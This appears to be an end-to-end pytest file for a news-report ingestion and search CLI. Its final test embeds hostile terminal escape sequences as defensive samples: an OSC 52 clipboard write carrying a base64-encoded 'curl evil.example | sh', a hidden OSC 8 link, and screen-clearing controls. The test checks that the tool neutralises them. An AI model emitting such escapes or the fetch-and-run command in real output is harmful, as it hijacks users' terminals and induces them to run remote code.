"""End-to-end: the commands a user types, on files written by the tests."""

from __future__ import annotations

import json
import os
import signal
import sqlite3
import subprocess
import sys
import time
from pathlib import Path

import pytest
from typer.testing import CliRunner

from watchfloor.cli import app

from .conftest import pg_schema_url

runner = CliRunner()

STORY = (
    "Russian units moved another {n} armoured vehicles to a base near Homyel on Sunday, "
    "according to railway workers who counted the trains passing through the station."
)


def write_report(folder: Path, name: str, n: int) -> Path:
    path = folder / name
    path.write_text(
        f"Armour arrives near Homyel, report {n}\n\nBy Polesie Wire February 23, 2022\n\n"
        + "\n\n".join(STORY.format(n=n + k) for k in range(3))
        + "\n",
        encoding="utf-8",
    )
    return path


def wf(*args: str) -> tuple[int, str, str]:
    result = runner.invoke(app, list(args))
    return result.exit_code, result.stdout, result.stderr


def jsonl(text: str) -> list[dict]:
    return [json.loads(line) for line in text.splitlines() if line.strip()]


@pytest.fixture
def reports(tmp_path: Path) -> Path:
    folder = tmp_path / "reports"
    folder.mkdir()
    for n in range(3):
        write_report(folder, f"r{n}.txt", n)
    return folder


def test_ingest_list_show_search(reports: Path, tmp_path: Path) -> None:
    db = str(tmp_path / "w.db")
    code, out, err = wf("ingest", str(reports), "--db", db, "--quiet", "--json")
    assert code == 0, err
    summary = json.loads(out)
    assert (summary["stored"], summary["duplicates"], summary["errors"]) == (3, 0, [])

    rows = jsonl(wf("articles", "--db", db, "--json")[1])
    assert [r["doc"] for r in rows] == ["r0.txt", "r1.txt", "r2.txt"]
    assert rows[0]["published"] == "2022-02-23" and rows[0]["outlet"] == "Polesie Wire"
    assert rows[0]["title"] == "Armour arrives near Homyel, report 0"

    shown = json.loads(wf("show", str(rows[1]["id"]), "--db", db, "--json")[1])
    assert shown["doc"] == "r1.txt" and shown["body_words"] > 40
    code, text_out, _ = wf("show", str(rows[1]["id"]), "--db", db)
    assert code == 0 and "railway workers" in text_out

    hits = jsonl(wf("search", "armoured vehicles 4", "--db", db, "--json")[1])
    assert [h["doc"] for h in hits] == ["r2.txt"]
    assert "armoured vehicles" in hits[0]["snippet"]
    assert len(jsonl(wf("search", "Homyel", "--db", db, "--json")[1])) == 3


def test_ingest_twice_stores_once(reports: Path, tmp_path: Path) -> None:
    db = str(tmp_path / "w.db")
    wf("ingest", str(reports), "--db", db, "--quiet")
    code, out, _ = wf("ingest", str(reports), "--db", db, "--quiet", "--json")
    assert code == 0
    summary = json.loads(out)
    assert (summary["stored"], summary["duplicates"]) == (0, 3)
    assert len(jsonl(wf("articles", "--db", db, "--json")[1])) == 3


def test_bad_inputs_are_reported_and_the_rest_stored(reports: Path, tmp_path: Path) -> None:
    (reports / "image.txt").write_bytes(bytes(range(256)) * 20)
    (reports / "empty.txt").write_text("")
    db = str(tmp_path / "w.db")
    missing = str(tmp_path / "nowhere.txt")
    code, out, _ = wf("ingest", str(reports), missing, "--db", db, "--quiet", "--json")
    assert code == 1
    summary = json.loads(out)
    assert summary["stored"] == 3
    failed = {Path(e["origin"]).name: e["reason"] for e in summary["errors"]}
    assert set(failed) == {"image.txt", "empty.txt", "nowhere.txt"}
    runs = jsonl(wf("runs", "--db", db, "--json")[1])
    assert len(runs[0]["errors"]) == 3


def test_changed_file_is_a_new_version(reports: Path, tmp_path: Path) -> None:
    db = str(tmp_path / "w.db")
    wf("ingest", str(reports), "--db", db, "--quiet")
    path = reports / "r0.txt"
    path.write_text(path.read_text() + "\nUpdate: the convoy turned back late on Sunday evening.\n")
    summary = json.loads(wf("ingest", str(reports), "--db", db, "--quiet", "--json")[1])
    assert (summary["stored"], summary["versions"], summary["duplicates"]) == (0, 1, 2)


def test_extract_json_is_gold_form(reports: Path) -> None:
    code, out, _ = wf("extract", str(reports / "r0.txt"), str(reports / "r1.txt"), "--json")
    assert code == 0
    objs = jsonl(out)
    assert [o["doc"] for o in objs] == ["r0.txt", "r1.txt"]
    for key in ("title", "outlet", "authors", "published", "body_lines", "duplicate_lines"):
        assert key in objs[0]
    assert objs[0]["body_lines"] == [[5, 9]]  # blank lines between paragraphs bridged


def test_unknown_article_and_bad_store_exit_3(tmp_path: Path) -> None:
    db = str(tmp_path / "w.db")
    result = runner.invoke(app, ["show", "99", "--db", db])
    assert result.exit_code != 0
    proc = subprocess.run(
        [sys.executable, "-m", "watchfloor", "show", "99", "--db", db],
        capture_output=True,
        text=True,
    )
    assert proc.returncode == 3
    assert proc.stderr.strip() == "error no article with id 99"


def test_every_command_has_help() -> None:
    for command in ("ingest", "articles", "show", "search", "extract", "report", "runs"):
        code, out, _ = wf(command, "--help")
        assert code == 0 and "Usage" in out


def test_killed_ingest_rerun_stores_each_article_once(tmp_path: Path) -> None:
    folder = tmp_path / "many"
    folder.mkdir()
    for n in range(300):
        write_report(folder, f"r{n:03}.txt", n)
    db = tmp_path / "w.db"
    cmd = [sys.executable, "-m", "watchfloor", "ingest", str(folder), "--db", str(db), "-q"]
    proc = subprocess.Popen([*cmd, "--batch-size", "5"], stderr=subprocess.DEVNULL)
    deadline = time.monotonic() + 60
    stored = 0
    while time.monotonic() < deadline and proc.poll() is None:
        time.sleep(0.05)
        if db.exists():
            try:
                with sqlite3.connect(db, timeout=1) as conn:
                    stored = conn.execute("SELECT count(*) FROM articles").fetchone()[0]
            except sqlite3.OperationalError:
                continue
            if stored >= 20:
                break
    if proc.poll() is None:
        os.kill(proc.pid, signal.SIGKILL)
    proc.wait()
    assert 0 < stored < 300, "the ingest should have been killed part-way"
    subprocess.run(cmd, check=True)
    with sqlite3.connect(db) as conn:
        assert conn.execute("SELECT count(*) FROM articles").fetchone()[0] == 300
        assert conn.execute("SELECT count(DISTINCT doc) FROM articles").fetchone()[0] == 300


@pytest.mark.postgres
def test_ingest_and_search_on_postgresql(reports: Path) -> None:
    with pg_schema_url() as db:
        code, out, err = wf("ingest", str(reports), "--db", db, "--quiet", "--json")
        assert code == 0, err
        assert json.loads(out)["stored"] == 3
        assert len(jsonl(wf("articles", "--db", db, "--json")[1])) == 3
        hits = jsonl(wf("search", "railway workers", "--db", db, "--json")[1])
        assert len(hits) == 3 and "railway" in hits[0]["snippet"]


# Hostile text: OSC 52 writes the clipboard, OSC 8 hides a link, ESC [2J clears the
# screen, U+009B is the one-character CSI, BEL rings; none may reach the terminal.
OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
OSC8 = "\x1b]8;;http://evil.example/\x1b\\Homyel\x1b]8;;\x1b\\"
CLEAR = "\x1b[2J\x1b[H"
C1_CSI = "\x9b31m"
RAW_CONTROLS = ("\x1b", "\x07", "\x9b", "\x9d")


def test_terminal_escapes_in_titles_and_bodies_are_shown_not_sent(tmp_path: Path) -> None:
    """`articles`, `show` and `search` print control characters as visible \\xNN; JSON
    output carries them as \\u escapes, so the data stays exact and the terminal safe."""
    title = f"Armour {OSC52}arrives {C1_CSI}near {CLEAR}Homyel"
    body = [STORY.format(n=n) + f" Seen near {OSC8} {OSC52} station." for n in (1, 2)]
    source = tmp_path / "hostile.json"
    source.write_text(
        json.dumps({"title": title, "outlet": f"Polesie{CLEAR} Wire", "text": "\n\n".join(body)}),
        encoding="utf-8",
    )
    db = str(tmp_path / "w.db")
    code, _, err = wf("ingest", str(source), "--db", db, "--quiet", "--no-nlp")
    assert code == 0, err
    [row] = jsonl(wf("articles", "--db", db, "--json")[1])
    outputs = {
        "articles": wf("articles", "--db", db),
        "show": wf("show", str(row["id"]), "--db", db),
        "show --all-lines": wf("show", str(row["id"]), "--all-lines", "--db", db),
        "search": wf("search", "railway", "--db", db),
        "articles --json": wf("articles", "--db", db, "--json"),
        "show --json": wf("show", str(row["id"]), "--db", db, "--json"),
    }
    for command, (code, out, err) in outputs.items():
        assert code == 0, (command, err)
        for raw in RAW_CONTROLS:
            assert raw not in out + err, (command, raw, out)
    shown = outputs["show"][1]
    assert "\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07" in shown  # visible, inert
    assert "\\x9b31m" in shown and "\\x1b[2J" in shown
    assert "Seen near \\x1b]8;;http://evil.example/\\x1b\\Homyel" in shown
    # JSON keeps the exact text: a reader of the JSON gets what was stored
    assert json.loads(outputs["show --json"][1])["title"] == row["title"]
    assert "\\u009b" in outputs["articles --json"][1]
